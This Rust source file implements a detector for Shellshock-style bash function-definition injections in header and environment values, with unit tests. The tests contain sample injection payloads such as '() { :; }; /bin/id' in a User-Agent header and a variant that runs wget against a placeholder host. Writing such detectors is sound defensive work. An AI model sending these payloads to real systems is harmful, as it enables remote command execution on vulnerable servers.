//! Shellshock: a value that is a function definition to a bash that reads it from its environment, and what follows the
//! function.

use std::ops::Range;

use super::names;

/// Where a definition stands with something to run: at the beginning of a value, or behind the name of a header or a variable.
pub(super) fn find(value: &str) -> Option<Range<usize>> {
    memchr::memmem::find_iter(value.as_bytes(), b"()").take(8).find_map(|at| {
        let before = value.get(..at)?;
        let body = value.get(at.saturating_add(2)..)?;
        let leads = before.trim_matches(['\'', '"', ' ', '\t']).is_empty();
        let body = body.trim_start_matches([' ', '\t']);
        let inside = body.strip_prefix('{')?;
        let named = before.trim_end_matches(['\'', '"', ' ']).ends_with(['=', ':', '%']) || is_name(before);
        let whole = at..value.len();
        if leads
            && (inside.is_empty() || inside.starts_with([' ', '\t', ':', '(', '_', '}', '\n']) || inside.contains('}'))
        {
            return Some(whole);
        }
        // `X-Y: () { :; }; /bin/id`, `x() { :; }; id`
        let (statements, behind) = inside.split_once('}')?;
        let empty = matches!(
            statements.trim().trim_end_matches(';').trim(),
            ":" | "_" | "x" | "true" | "ignored" | "test" | "" | "0" | "foo"
        );
        let command = behind.trim_start().strip_prefix([';', '>'])?.trim_start();
        let word = command.split([' ', ';', '\n', '"', '\'']).next().unwrap_or("");
        let runs = word.starts_with('/') || word.starts_with("_[") || names::is_program(word) || names::is_word(word);
        ((leads || named) && empty && runs).then_some(whole)
    })
}

fn is_name(text: &str) -> bool {
    !text.is_empty()
        && text.len() <= 40
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_.-".contains(&byte))
}

#[cfg(test)]
mod tests {
    use super::find;

    #[test]
    fn definitions_with_a_command_are_found() {
        for value in [
            "() { :; }; /bin/id",
            "(){:;};id",
            "() { ignored; }; wget x.example",
            "() { _; } >_[$($())] { id; }",
            "() { (a)=>\\",
            "User-Agent: () { :;}; echo vulnerable",
            "x='() { :;}; echo y' bash -c :",
            "bob() { :; }; ping -c1 x.example",
            "x.example() { :;}; /bin/bash -c id",
            "() { foo() { foo; }; >bar; }",
        ] {
            assert!(find(value).is_some(), "{value}");
        }
    }

    #[test]
    fn functions_of_programs_are_not() {
        for value in [
            "const run = () => { go(); };",
            "setTimeout(function() { done(); }, 10);",
            "onPressed: () { setState(() {}); }",
            "build() { make; }; build",
            "f(); { a }",
            "func main() { print(1) }",
            "foo() {}",
        ] {
            assert!(find(value).is_none(), "{value}");
        }
    }
}
